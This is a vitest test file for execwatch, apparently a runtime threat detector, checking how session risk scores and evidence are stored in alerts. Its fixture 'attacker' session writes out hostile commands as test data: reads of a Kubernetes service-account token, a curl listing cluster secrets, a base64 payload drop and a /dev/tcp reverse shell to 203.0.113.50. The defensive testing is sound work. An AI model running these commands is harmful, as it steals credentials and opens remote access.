import { describe, expect, it } from 'vitest';
import { presentSession, SESSION_ALERT_FIELDS, sessionAlertFields, STORED_ARG_CHARS, STORED_ARGS, STORED_EVIDENCE_PER_BEHAVIOR, withSessionFields } from './alert-fields';
import { sessionRiskSchema, storedSessionSchema } from '@execwatch/api';
import { scoreSession } from './score';
import { session } from './test-helpers';

const SCORED_AT = '2026-01-01T12:30:00.000Z';
const attacker = session([
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'curl -k -H "Authorization: Bearer eyJ" https://kubernetes.default.svc/api/v1/secrets',
  `sh -c "echo ${'QUFB'.repeat(400)} | base64 -d > /tmp/x"`,
  `printf ${Array.from({ length: 40 }, (_, i) => `a${i}`).join(' ')} /dev/tcp/203.0.113.50/4444`,
]);
const score = scoreSession(attacker.processes, { entryStart: attacker.entryStart });

describe('sessionAlertFields', () => {
  const fields = sessionAlertFields(score, new Date(SCORED_AT));
  const stored = fields.execwatch.session;

  it('stores the score, its level, when and over how many processes', () => {
    expect(storedSessionSchema.parse(stored)).toEqual(stored);
    expect(stored).toMatchObject({ risk_score: score.risk_score, risk_level: 'critical', scored_at: SCORED_AT, process_count: attacker.processes.length });
    expect(stored.behaviors.map((b) => b.id)).toEqual(score.behaviors.map((b) => b.id));
  });

  it('keeps a few evidence items with trimmed arguments', () => {
    const token = stored.behaviors.find((b) => b.id === 'credential_access.service_account_token');
    expect(token?.match_count).toBe(4);
    expect(token?.evidence).toHaveLength(STORED_EVIDENCE_PER_BEHAVIOR);
    const evidence = stored.behaviors.flatMap((b) => b.evidence);
    for (const e of evidence) {
      expect(e.args.length).toBeLessThanOrEqual(STORED_ARGS + 1);
      for (const a of e.args) expect(a.length).toBeLessThanOrEqual(STORED_ARG_CHARS + 1);
    }
    const shell = stored.behaviors.find((b) => b.id === 'execution.reverse_shell')?.evidence[0];
    expect(shell?.args.at(-1)).toBe(`… ${42 - STORED_ARGS} more`);
  });

  it('names every stored field in SESSION_ALERT_FIELDS', () => {
    expect(Object.keys(stored).map((k) => `execwatch.session.${k}`).sort()).toEqual([...SESSION_ALERT_FIELDS].sort());
  });

  it('refuses a time that is not one', () => {
    expect(() => sessionAlertFields(score, 'yesterday-ish')).toThrow(RangeError);
  });
});

describe('withSessionFields', () => {
  it('adds execwatch.session beside the other execwatch fields without touching the input', () => {
    const alert = { kibana: { alert: { uuid: 'a1' } }, execwatch: { attribution: { match: 'exact' } }, 'execwatch.session.risk_score': 1 };
    const before = structuredClone(alert);
    const doc = withSessionFields(alert, score, SCORED_AT);
    expect(alert).toEqual(before);
    expect(doc.execwatch).toMatchObject({ attribution: { match: 'exact' }, session: { risk_score: score.risk_score } });
    expect(doc['execwatch.session.risk_score']).toBeUndefined();
    expect(presentSession(doc)?.risk_score).toBe(score.risk_score);
  });
});

describe('presentSession', () => {
  const doc = JSON.parse(JSON.stringify({ kibana: { alert: { uuid: 'a1' } }, ...sessionAlertFields(score, SCORED_AT) }));

  it('presents a stored session in the API shape', () => {
    const presented = presentSession(doc);
    expect(sessionRiskSchema.parse(presented)).toEqual(presented);
    expect(presented).toEqual({
      risk_score: score.risk_score,
      risk_level: 'critical',
      behaviors: doc.execwatch.session.behaviors,
      scored_at: SCORED_AT,
      related_alerts: [],
    });
  });

  it('reads dotted keys too', () => {
    const s = doc.execwatch.session;
    const dotted = { 'execwatch.session.risk_score': s.risk_score, 'execwatch.session.risk_level': s.risk_level, 'execwatch.session.behaviors': s.behaviors, 'execwatch.session.scored_at': s.scored_at };
    expect(presentSession(dotted)).toEqual(presentSession(doc));
  });

  it('is null for an alert whose session was never scored', () => {
    expect(presentSession({ kibana: { alert: { uuid: 'a1' } } })).toBeNull();
    expect(presentSession({ execwatch: { attribution: { match: 'none' } } })).toBeNull();
    expect(presentSession(null)).toBeNull();
  });

  it('drops malformed behaviours, derives a missing level and bounds the score', () => {
    const good = doc.execwatch.session.behaviors[0];
    const presented = presentSession({ execwatch: { session: { risk_score: 130.4, behaviors: [good, { id: 'x' }, 'junk', { ...good, weight: 'heavy' }] } } });
    expect(presented).toEqual({ risk_score: 100, risk_level: 'critical', behaviors: [good], scored_at: null, related_alerts: [] });
    expect(presentSession({ execwatch: { session: { risk_score: '42', risk_level: 'severe' } } })).toEqual({ risk_score: 42, risk_level: 'medium', behaviors: [], scored_at: null, related_alerts: [] });
  });
});
